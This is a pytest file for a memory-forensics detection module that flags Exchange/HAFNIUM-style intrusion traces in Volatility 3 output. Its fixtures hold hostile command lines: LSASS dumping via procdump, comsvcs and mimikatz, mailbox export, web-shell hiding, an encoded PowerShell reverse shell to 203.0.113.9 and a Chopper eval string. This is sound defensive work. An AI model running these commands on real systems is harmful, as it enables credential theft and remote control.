"""Derived findings over row fixtures in Volatility 3's column shapes (as ``vol.run_vol3`` yields them)."""

from __future__ import annotations

import base64
from datetime import UTC, datetime, timedelta

import pytest

from analyzers.memory import derive

T0 = datetime(2021, 3, 3, 4, 0, 0, tzinfo=UTC)


def proc(pid: int, ppid: int, name: str, minutes: int = 0, exited: datetime | None = None) -> dict[str, object]:
    """A pslist/psscan row (windows.pslist.PsList columns)."""
    return {
        "TreeDepth": 0,
        "PID": pid,
        "PPID": ppid,
        "ImageFileName": name,
        "Offset(V)": 0xFFFFE0010000_0000 + pid,
        "Threads": 4,
        "Handles": None,
        "SessionId": 0,
        "Wow64": False,
        "CreateTime": T0 + timedelta(minutes=minutes),
        "ExitTime": exited,
        "File output": "Disabled",
    }


def cmd(pid: int, process: str, args: str | None) -> dict[str, object]:
    return {"TreeDepth": 0, "PID": pid, "Process": process, "Args": args}


PSLIST = [
    proc(4, 0, "System", -600),
    proc(644, 500, "lsass.exe", -600),
    proc(2200, 600, "w3wp.exe", -300),
    proc(2300, 600, "UMWorkerProces", -300),  # EPROCESS keeps 14 characters of UMWorkerProcess.exe
    proc(3000, 2200, "cmd.exe", 5),
    proc(3001, 2200, "csc.exe", 6),  # ASP.NET compiling a page: normal
    proc(3100, 2300, "WerFault.exe", 7),  # UM worker crash report: normal
    proc(3101, 2300, "cmd.exe", 8),
    proc(3200, 3000, "powershell.exe", 9),
]


def rule_ids(indicators: list[derive.Indicator]) -> list[str]:
    return sorted(i.rule_id for i in indicators)


def test_name_matching_allows_eprocess_truncation() -> None:
    assert derive.name_is("UMWorkerProces", "UMWorkerProcess.exe")
    assert derive.name_is(r"C:\Windows\System32\inetsrv\W3WP.EXE", "w3wp.exe")
    assert not derive.name_is("w3wp", "w3wp.exe")  # short names must match whole
    assert not derive.name_is(None, "cmd.exe")


def test_shell_children_of_iis_and_um_workers() -> None:
    found = derive.shell_children(PSLIST, cmdline=[cmd(3000, "cmd.exe", "cmd.exe /c whoami")])
    by_child = {i.attributes["pid"]: i for i in found}
    assert set(by_child) == {3000, 3101}
    assert by_child[3000].rule_id == "MEM-W3WP-SHELL-CHILD" and by_child[3000].severity == "critical"
    assert "whoami" in by_child[3000].message
    assert by_child[3000].ts == T0 + timedelta(minutes=5)
    assert by_child[3101].rule_id == "MEM-UMWORKER-CHILD" and by_child[3101].cve == "CVE-2021-26857"


def test_parent_pid_reuse_is_resolved_by_start_time() -> None:
    rows = [
        proc(2200, 600, "svchost.exe", -900, exited=T0 - timedelta(minutes=800)),  # old owner of PID 2200
        proc(2200, 600, "w3wp.exe", -300),
        proc(5000, 2200, "cmd.exe", -850),  # started under the old svchost, not w3wp
        proc(5001, 2200, "cmd.exe", 1),
    ]
    assert [i.attributes["pid"] for i in derive.shell_children(rows)] == [5001]


def test_psscan_only_parents_count() -> None:
    psscan = [proc(2200, 600, "w3wp.exe", -300, exited=T0)]
    rows = [proc(3000, 2200, "powershell.exe", -10)]
    assert rule_ids(derive.shell_children(rows, psscan)) == ["MEM-W3WP-SHELL-CHILD"]


@pytest.mark.parametrize(
    ("args", "rule"),
    [
        (r"C:\tools\procdump64.exe -accepteula -ma lsass.exe C:\windows\temp\lsass", "MEM-CMD-PROCDUMP-LSASS"),
        (r"procdump.exe -ma 644 c:\windows\temp\x.dmp", "MEM-CMD-PROCDUMP-LSASS"),  # 644 is lsass in pslist
        (
            r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 644 C:\temp\lsass.dmp full",
            "MEM-CMD-COMSVCS-MINIDUMP",
        ),
        (r"rundll32 comsvcs.dll #24 644 c:\t.bin full", "MEM-CMD-COMSVCS-MINIDUMP"),
        (r"rdrleakdiag.exe /p 644 /o c:\temp /fullmemdmp /wait 1", "MEM-CMD-RDRLEAKDIAG"),
        ("powershell Out-Minidump -Process (Get-Process lsass)", "MEM-CMD-LSASS-DUMP-OTHER"),
        (r'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', "MEM-CMD-MIMIKATZ"),
        (r"C:\ProgramData\7z.exe a -tzip C:\ProgramData\pst.zip C:\ProgramData\pst", "MEM-CMD-STAGE-ARCHIVE"),
        (r"rar.exe a -hpPassw0rd C:\ProgramData\out.rar C:\Users\admin\Documents", "MEM-CMD-STAGE-ARCHIVE"),
        (
            r"powershell New-MailboxExportRequest -Mailbox ceo -FilePath \\exch01\c$\ProgramData\c.pst",
            "MEM-CMD-MAILBOX-EXPORT",
        ),
        ("powershell -c Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; Get-Mailbox", "MEM-CMD-EXCHANGE-SNAPIN"),
        (r"attrib +h +s +r C:\inetpub\wwwroot\aspnet_client\system_web\x.aspx", "MEM-CMD-HIDE-WEBSHELL"),
    ],
)
def test_command_line_rules(args: str, rule: str) -> None:
    found = derive.command_lines([cmd(4242, "x.exe", args)], PSLIST)
    assert rule in rule_ids(found)
    hit = next(i for i in found if i.rule_id == rule)
    assert hit.location == "pid:4242" and hit.attributes["args"] == args


def test_encoded_powershell_is_decoded_and_checked() -> None:
    script = "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.9',443);$stream = $client.GetStream()"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    found = derive.command_lines([cmd(77, "powershell.exe", f"powershell.exe -nop -w hidden -enc {encoded}")])
    (hit,) = found
    assert hit.rule_id == "MEM-CMD-REVERSE-SHELL"
    assert hit.attributes["matched_in"] == "decoded -EncodedCommand"
    assert "TCPClient" in hit.attributes["decoded"]


@pytest.mark.parametrize(
    "args",
    [
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        r"c:\windows\system32\inetsrv\w3wp.exe -ap MSExchangeOWAAppPool -v v4.0 -c ...",
        r"procdump.exe -ma 2200 c:\dumps\w3wp.dmp",  # dumping w3wp, not lsass
        # msiexec's own snap-in use during Exchange setup (Sigma's filter)
        r'powershell -c "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; '
        r'$exserver=Get-ExchangeServer ([Environment]::MachineName)"',
        None,
    ],
)
def test_benign_command_lines(args: str | None) -> None:
    assert derive.command_lines([cmd(1, "x.exe", args)], PSLIST) == []


def handle(pid: int, process: str, name: str, access: int, typ: str = "Process") -> dict[str, object]:
    """A windows.handles.Handles row."""
    return {
        "TreeDepth": 0,
        "PID": pid,
        "Process": process,
        "Offset": 0xFFFFE001_2345_0000,
        "HandleValue": 0x4A8,
        "Type": typ,
        "GrantedAccess": access,
        "Name": name,
    }


def test_handles_to_lsass() -> None:
    rows = [
        handle(3333, "rundll32.exe", "lsass.exe Pid 644", 0x1FFFFF),
        handle(900, "svchost.exe", "lsass.exe Pid 644", 0x1410),  # expected holder
        handle(4444, "updater.exe", "lsass.exe Pid 644", 0x1000),  # no PROCESS_VM_READ
        handle(4445, "agent.exe", "lsass.exe Pid 644", 0x1010),
        handle(4446, "agent2.exe", "lsass.exe Pid 999", 0x1010),  # not the lsass in pslist
        handle(4447, "agent3.exe", "lsass.exe Pid 644", 0x1010, typ="Thread"),
    ]
    found = {i.attributes["pid"]: i for i in derive.lsass_handles(rows, PSLIST)}
    assert set(found) == {3333, 4445}
    assert found[3333].severity == "critical" and found[4445].severity == "high"
    assert found[3333].attributes["granted_access"] == 0x1FFFFF


def malfind(pid: int, process: str, head: bytes) -> dict[str, object]:
    """A windows.malware.malfind.Malfind row."""
    return {
        "TreeDepth": 0,
        "PID": pid,
        "Process": process,
        "Start VPN": 0x1F0000,
        "End VPN": 0x1F0FFF,
        "Tag": "VadS",
        "Protection": "PAGE_EXECUTE_READWRITE",
        "CommitCharge": 1,
        "PrivateMemory": 1,
        "File output": "Disabled",
        "Notes": None,
        "Hexdump": head + bytes(62),
        "Disasm": head + bytes(62),
    }


def test_injected_code() -> None:
    rows = [
        malfind(644, "lsass.exe", b"\xfc\x48"),
        malfind(2200, "w3wp.exe", b"MZ"),
        malfind(2201, "w3wp.exe", b"\x00\x00"),
        malfind(5000, "notepad.exe", b"\x90\x90"),
        malfind(5001, "chrome.exe", b"\x90\x90"),
    ]
    found = {(i.rule_id, i.attributes.get("pid")): i for i in derive.injected_code(rows)}
    assert found[("MEM-MALFIND", 644)].severity == "critical"
    assert (
        found[("MEM-MALFIND", 2200)].severity == "high" and found[("MEM-MALFIND", 2200)].attributes["pe_regions"] == 1
    )
    assert found[("MEM-MALFIND", 2201)].severity == "medium"
    other = found[("MEM-MALFIND-OTHER", None)]
    assert other.severity == "info" and len(other.attributes["processes"]) == 2


def conn(owner: str, pid: int, remote: str, port: int = 443, state: str = "ESTABLISHED") -> dict[str, object]:
    """A windows.netscan.NetScan row."""
    return {
        "TreeDepth": 0,
        "Offset": 0xE0010000,
        "Proto": "TCPv4",
        "LocalAddr": "10.0.0.5",
        "LocalPort": 49822,
        "ForeignAddr": remote,
        "ForeignPort": port,
        "State": state,
        "PID": pid,
        "Owner": owner,
        "Created": T0,
    }


def test_network_connections() -> None:
    rows = [
        conn("svchost.exe", 900, "165.232.154.116"),  # public, from a process we do not judge
        conn("svchost.exe", 901, "104.140.114.110"),  # HAFNIUM address: any process
        conn("w3wp.exe", 2200, "::ffff:5.254.43.18", state="CLOSED"),  # v4-mapped HAFNIUM, closed: still
        conn("w3wp.exe", 2200, "45.33.32.156"),  # public from w3wp
        conn("w3wp.exe", 2200, "10.0.0.9", 444),  # back end: its everyday work
        conn("powershell.exe", 3200, "185.199.108.153", 4444),
        conn("powershell.exe", 3200, "100.64.3.4", 4444),  # CGNAT: not public
        conn("powershell.exe", 3200, "185.199.108.154", 4444, state="CLOSED"),
        conn("System", 4, "0.0.0.0", 0, state="LISTENING"),
        conn("cmd.exe", 3000, "*", 0, state="LISTENING"),
    ]
    found = derive.network(rows)
    assert rule_ids(found) == sorted(
        ["MEM-NET-HAFNIUM-IP", "MEM-NET-HAFNIUM-IP", "MEM-NET-W3WP-PUBLIC", "MEM-NET-SHELL-PUBLIC"]
    )
    hafnium = [i for i in found if i.rule_id == "MEM-NET-HAFNIUM-IP"]
    assert {i.attributes["remote"] for i in hafnium} == {"104.140.114.110:443", "5.254.43.18:443"}
    assert all(i.severity == "critical" for i in hafnium)


def test_processes_psscan_sees_but_pslist_does_not() -> None:
    psscan = [*PSLIST, proc(6666, 2200, "svchost.exe", 20), proc(6667, 4, "cmd.exe", 1, exited=T0 + timedelta(hours=1))]
    (hit,) = derive.hidden_processes(PSLIST, psscan)
    assert hit.attributes["pid"] == 6666 and hit.rule_id == "MEM-PROC-HIDDEN"
    assert derive.hidden_processes([], psscan) == []  # nothing to compare with


def svc(name: str, binary: str, dll: str | None = None) -> dict[str, object]:
    """A windows.svcscan.SvcScan row."""
    return {
        "TreeDepth": 0,
        "Offset": 0x1000,
        "Order": 7,
        "PID": 1234,
        "Start": "SERVICE_AUTO_START",
        "State": "SERVICE_RUNNING",
        "Type": "SERVICE_WIN32_OWN_PROCESS",
        "Name": name,
        "Display": name,
        "Binary": binary,
        "Binary (Registry)": binary,
        "Dll": dll,
    }


def test_suspicious_services() -> None:
    rows = [
        svc("wuauserv", r"C:\Windows\system32\svchost.exe -k netsvcs -p", r"C:\Windows\system32\wuaueng.dll"),
        svc(
            "MSExchangeIS", r'"C:\Program Files\Microsoft\Exchange Server\V15\Bin\Microsoft.Exchange.Store.Service.exe"'
        ),
        svc("PSEXESVC", r"C:\Windows\PSEXESVC.exe"),
        svc("VSPerfMon", r"C:\ProgramData\VSPerfMon\vsperfmon.exe"),
        svc("updsvc", r"cmd.exe /c powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
    ]
    found = {i.attributes["name"]: i for i in derive.suspicious_services(rows)}
    assert set(found) == {"PSEXESVC", "VSPerfMon", "updsvc"}
    assert found["updsvc"].severity == "high"
    assert found["VSPerfMon"].severity == "high"  # known name and a user-writable folder


def f(name: str) -> dict[str, object]:
    """A windows.filescan.FileScan row."""
    return {"TreeDepth": 0, "Offset": 0x7E000000, "Name": name}


TEMP_ASP = r"\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files"


def test_web_shells_and_app_web_dlls_in_the_file_cache() -> None:
    ex = r"\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy"
    rows = [
        f(r"\inetpub\wwwroot\aspnet_client\system_web\2XJHwN19.aspx"),
        f(ex + r"\owa\auth\logon.aspx"),  # stock
        f(ex + r"\owa\auth\RedirSuiteServerProxy.aspx"),  # helsecert's shell: one letter off the stock name
        f(ex + r"\owa\auth\15.1.2176\themes\resources\error.aspx"),  # versioned folder: any .aspx
        f(ex + r"\owa\auth\15.1.2176\scripts\premium\flogon.js"),  # not a server page
        f(ex + r"\ecp\auth\TimeoutLogoff.aspx"),  # stock
        f(ex + r"\ecp\auth\y.aspx"),
        f(TEMP_ASP + r"\owa\4c1f3a\a7b2\App_Web_kzxbr5iq.dll"),
        f(TEMP_ASP + r"\ecp\1a\2b\App_Web_1a2b3c4d.dll"),
        f(r"\Windows\System32\drivers\etc\hosts"),
    ]
    found = derive.webshell_files(rows)
    pages = sorted(i.attributes["path"].rsplit("\\", 1)[-1] for i in found if i.rule_id == "MEM-FILE-WEBSHELL")
    assert pages == ["2XJHwN19.aspx", "RedirSuiteServerProxy.aspx", "error.aspx", "y.aspx"]
    (dlls,) = [i for i in found if i.rule_id == "MEM-FILE-APPWEB-DLL"]
    assert dlls.attributes["count"] == 2 and dlls.severity == "low"


def test_vad_yara_uses_rule_meta() -> None:
    meta = {
        "memory_webshell_code.TRIAGE_MEM_WebShell_Chopper_Eval": {
            "severity": "critical",
            "title": "Chopper",
            "mitre": "T1505.003",
            "ed2102_steps": "8,11",
        },
        "memory_minidump.TRIAGE_MEM_Minidump_Header": {"carve": "minidump", "severity": "low"},
    }
    rows = [
        {
            "TreeDepth": 0,
            "Offset": 0x1F0010,
            "PID": 2200,
            "CreateTime": T0,
            "PPID": 600,
            "ImageFileName": "w3wp.exe",
            "SessionId": 0,
            "Threads": 40,
            "Rule": "memory_webshell_code.TRIAGE_MEM_WebShell_Chopper_Eval",
            "Component": "$eval_unsafe",
            "Value": b'eval(Request["x"],"unsafe")',
        },
        {
            "TreeDepth": 0,
            "Offset": 0x2F0010,
            "PID": 2200,
            "CreateTime": T0,
            "PPID": 600,
            "ImageFileName": "w3wp.exe",
            "SessionId": 0,
            "Threads": 40,
            "Rule": "memory_minidump.TRIAGE_MEM_Minidump_Header",
            "Component": "$mdmp",
            "Value": b"MDMP",
        },
    ]
    (hit,) = derive.vad_yara(rows, meta.get)
    assert (hit.severity, hit.rule_title, hit.steps, hit.attributes["pid"]) == ("critical", "Chopper", "8,11", 2200)


def test_derive_all_uses_pstree_when_pslist_and_cmdline_are_missing() -> None:
    pstree = [dict(r, Audit=None, Cmd="cmd.exe /c whoami" if r["PID"] == 3000 else None, Path=None) for r in PSLIST]
    found = derive.derive_all({"pstree": pstree})
    assert "MEM-W3WP-SHELL-CHILD" in rule_ids(found)
    assert derive.derive_all({}) == []


# the columns the derivations read, per plugin module: a volatility3 upgrade that renames one fails here
COLUMNS = {
    "windows.pslist": ["PID", "PPID", "ImageFileName", "CreateTime", "ExitTime"],
    "windows.psscan": ["PID", "PPID", "ImageFileName", "CreateTime", "ExitTime"],
    "windows.pstree": ["PID", "PPID", "ImageFileName", "CreateTime", "Cmd"],
    "windows.cmdline": ["PID", "Process", "Args"],
    "windows.handles": ["PID", "Process", "HandleValue", "Type", "GrantedAccess", "Name"],
    "windows.malware.malfind": ["PID", "Process", "Start VPN", "Protection", "Hexdump"],
    "windows.netscan": [
        "Proto",
        "LocalAddr",
        "LocalPort",
        "ForeignAddr",
        "ForeignPort",
        "State",
        "PID",
        "Owner",
        "Created",
    ],
    "windows.svcscan": ["PID", "Start", "State", "Name", "Display", "Binary", "Binary (Registry)", "Dll"],
    "windows.filescan": ["Offset", "Name"],
    "windows.vadyarascan": ["Offset", "PID", "ImageFileName", "Rule", "Component", "Value"],
}


@pytest.mark.parametrize("module", sorted(COLUMNS))
def test_fixture_columns_exist_in_the_installed_volatility(module: str) -> None:
    import importlib.util
    from pathlib import Path

    # read the plugin's source without importing it (importing volatility3 is the adapter's business)
    root = Path(importlib.util.find_spec("volatility3").submodule_search_locations[0])
    src = (root / "framework" / "plugins" / (module.replace(".", "/") + ".py")).read_text()
    missing = [c for c in COLUMNS[module] if f'("{c}",' not in src]
    assert not missing, f"{module} no longer declares {missing}"


def test_derived_indicators_carry_their_rule_metadata() -> None:
    """Rule data (signatures/rulemeta/memory.yaml) and the levels raised from what was seen reach the indicator."""
    malfind_rows = [malfind(644, "lsass.exe", b"\xfc\x48"), malfind(2201, "w3wp.exe", b"\x00\x00")]
    by_pid = {i.attributes["pid"]: i for i in derive.injected_code(malfind_rows)}
    lsass, w3wp = by_pid[644], by_pid[2201]
    assert (lsass.severity, lsass.confidence, lsass.steps, lsass.mitre) == ("critical", "high", "9,11", "T1055")
    assert (w3wp.severity, w3wp.confidence, w3wp.steps) == ("medium", "low", "11")  # the data's plain case
    assert w3wp.tags == "memory,volatility,injection"
    assert derive.RULES["MEM-MALFIND"].severity == "medium"  # raising one finding left the shared rule alone

    net = {
        i.rule_id: i
        for i in derive.network([conn("w3wp.exe", 2200, "45.33.32.156"), conn("x.exe", 9, "104.140.114.110")])
    }
    public, hafnium = net["MEM-NET-W3WP-PUBLIC"], net["MEM-NET-HAFNIUM-IP"]
    assert public.rule_title == "Connection from w3wp.exe to a public address"  # names the process
    assert (public.severity, public.steps, public.tags) == ("medium", "11,12", "memory,volatility,network")
    assert (hafnium.cve, hafnium.steps, hafnium.tags) == ("CVE-2021-26855", "8,11,12", "memory,volatility,network,ioc")


def test_memory_yara_rule_meta_from_the_rule_meta() -> None:
    meta = {"title": "Chopper", "severity": "CRITICAL", "mitre": "T1505.003", "ed2102_steps": "8,11", "reference": "u1"}
    raw = derive.yara_rule_meta(
        "MEM-YARA", "triage.Chopper_Eval", meta, "Chopper", ("memory", "yara", "raw"), cite=True
    )
    assert (raw.id, raw.severity, raw.steps, raw.references) == (
        "MEM-YARA-Chopper_Eval",
        "critical",
        ("8", "11"),
        ("u1",),
    )
    vad = derive.yara_rule_meta("MEM-VADYARA", "X", {"severity": "bogus"}, "X", ("memory",))
    assert (vad.severity, vad.confidence, vad.steps, vad.references, vad.mitre) == ("medium", "medium", ("11",), (), ())
